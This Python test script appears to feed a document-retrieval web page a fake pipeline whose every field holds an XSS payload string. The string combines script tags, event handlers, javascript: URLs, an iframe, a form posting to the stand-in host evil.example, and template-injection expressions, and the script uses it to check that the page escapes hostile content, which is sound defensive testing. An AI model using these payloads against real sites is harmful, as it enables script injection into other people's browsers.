"""A page over a pipeline in which every text tries to run: `python -m tests.browser.hostile`.

The letter, its senders, addresses and translation, what the model writes, its verified answer, its
notices and its name: all hold markup, script, addresses that run, and what templates would evaluate.
"""

from __future__ import annotations

import datetime
import time
from collections.abc import Iterator, Sequence

from rag.claims import LABELS, ArticleReport
from rag.page.build import blocks
from rag.page.listen import listen
from rag.page.live import Live
from rag.page.options import Options, Tools
from rag.page.serve import run, web_app
from rag.page.suggest import Suggestions
from rag.settings import Settings, load_settings
from rag.types import (
    Answer,
    Citation,
    Evidence,
    Hit,
    Language,
    Letter,
    LetterInfo,
    Passage,
    Piece,
    Sender,
    Sentence,
    Statement,
    Verdict,
)

EVIL = (
    "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'><svg/onload=window.hacked=1>"
    '"><form action="https://evil.example"><input name=q></form><a href="javascript:window.hacked=1">x</a>'
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><style>*{display:none}</style>"
    "${window.hacked=1}`{{constructor.constructor('window.hacked=1')()}}' onfocus=window.hacked=1 autofocus"
)
NAME = "kst-1-1"
SENTENCE = Sentence(EVIL, (Piece(EVIL, 0, len(EVIL)),))
PASSAGE = Passage(f"{NAME}#1", NAME, "paragraph", EVIL, (SENTENCE,))
HEADING = Passage(f"{NAME}#2", NAME, "heading", EVIL, (SENTENCE,))
LETTER = Letter(
    NAME, EVIL, EVIL, datetime.date(2020, 1, 1), EVIL, EVIL, (Sender(EVIL, EVIL),), EVIL, "2019-2020", EVIL, EVIL, EVIL,
    (PASSAGE, HEADING),
)  # fmt: skip
INFO = LetterInfo(
    NAME, NAME, EVIL, EVIL, LETTER.date, EVIL, EVIL, LETTER.senders, EVIL, EVIL, EVIL,
    "javascript:window.hacked=1", EVIL, 1, ("nl", "en"), EVIL,
)  # fmt: skip
CITATION = Citation(
    1, PASSAGE.id, NAME, EVIL, EVIL, (EVIL,), EVIL, EVIL, EVIL, 0, len(EVIL), EVIL, "javascript:window.hacked=1"
)


class Hostile:
    """What the page needs of a pipeline."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings

    def stream(
        self, question: str, history: Sequence[str] = (), language: Language | None = None
    ) -> Iterator[str | Answer]:
        count, pause = (100, 0.2) if "slow" in question else (4000, 0.005) if "fast" in question else (0, 0)
        for _ in range(count):
            yield "woord "
            time.sleep(pause)
        yield EVIL
        yield self.ask(question, history, language)

    def ask(self, question: str, history: Sequence[str] = (), language: Language | None = None) -> Answer:
        refused = "refuse" in question
        return Answer(
            question, language or "en", "not_in_letters" if refused else "answered", EVIL,
            () if refused else (Statement(EVIL, (1,)),), () if refused else (CITATION,), (Hit(PASSAGE.id, 1.0),),
            "chain", EVIL, (EVIL,), {EVIL: EVIL}, 0.1, EVIL,
        )  # fmt: skip

    def check(self, claim: str, language: Language | None = None) -> Verdict:
        if "slow" in claim:
            time.sleep(0.3)
        label = LABELS[len(claim) % len(LABELS)]
        return Verdict(claim, language or "en", label, EVIL, (CITATION,), (CITATION,), {EVIL: EVIL}, 0.1)

    def check_article(self, text: str, language: Language | None = None) -> ArticleReport:
        return ArticleReport((), (), {"letters": [EVIL], "period": [EVIL, EVIL]}, 0, 0.0)

    def search(self, query: str, count: int = 8, language: Language | None = None) -> tuple[Evidence, ...]:
        return self.evidence([PASSAGE.id])

    def changed(self) -> bool:
        return False

    def letters(self) -> tuple[LetterInfo, ...]:
        return (INFO,)

    def letter(self, name: str) -> Letter:
        return LETTER

    def edition(self, name: str, language: Language) -> dict[str, tuple[str, ...]]:
        return {PASSAGE.id: (EVIL,), HEADING.id: (EVIL,)}

    def evidence(self, names: Sequence[str]) -> tuple[Evidence, ...]:
        return tuple(Evidence(Hit(name, 1.0), PASSAGE, INFO, (EVIL,)) for name in names)


if __name__ == "__main__":
    settings = load_settings()
    live = Live(Hostile(settings))  # type: ignore[arg-type]
    page = blocks(live, settings, Suggestions(live), Options(), Tools())
    run(web_app(page, live, settings, Options(), Tools()), listen(settings.host, settings.port))
